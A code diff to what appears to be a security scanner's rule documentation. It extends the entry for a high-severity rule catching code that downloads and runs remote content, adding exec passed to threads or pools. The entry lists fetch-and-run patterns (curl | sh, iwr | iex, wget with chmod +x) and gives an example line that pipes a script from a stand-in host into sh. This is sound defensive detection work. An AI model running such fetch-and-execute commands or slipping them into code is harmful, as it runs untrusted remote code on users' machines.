@@ -205,7 +205,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'high',
     catches:
-      'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response, a command line that downloads a file and then makes it executable (wget ... && chmod +x) or starts it (curl -o x.py ... && python x.py, DownloadFile ... Start-Process), or an executable or script (.exe, .ps1, .sh, .py, ...) written by urlretrieve or by a function that fetched its bytes, then started; or, whatever its name, the very path a downloading function wrote (`open(file_path, "wb")` then `subprocess.run([file_path])`).',
+      'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response (also exec handed to a thread, pool or map: Thread(target=exec, args=(code,))), a command line that downloads a file and then makes it executable (wget ... && chmod +x) or starts it (curl -o x.py ... && python x.py, DownloadFile ... Start-Process), or an executable or script (.exe, .ps1, .sh, .py, ...) written by urlretrieve or by a function that fetched its bytes, then started; or, whatever its name, the very path a downloading function wrote (`open(file_path, "wb")` then `subprocess.run([file_path])`).',
     example: 'os.system("curl -s https://x.example/i.sh | sh")',
     falsePositives:
       'Installers of developer tools (rare in libraries); services that generate code for their users (exec of a response when called is medium).',
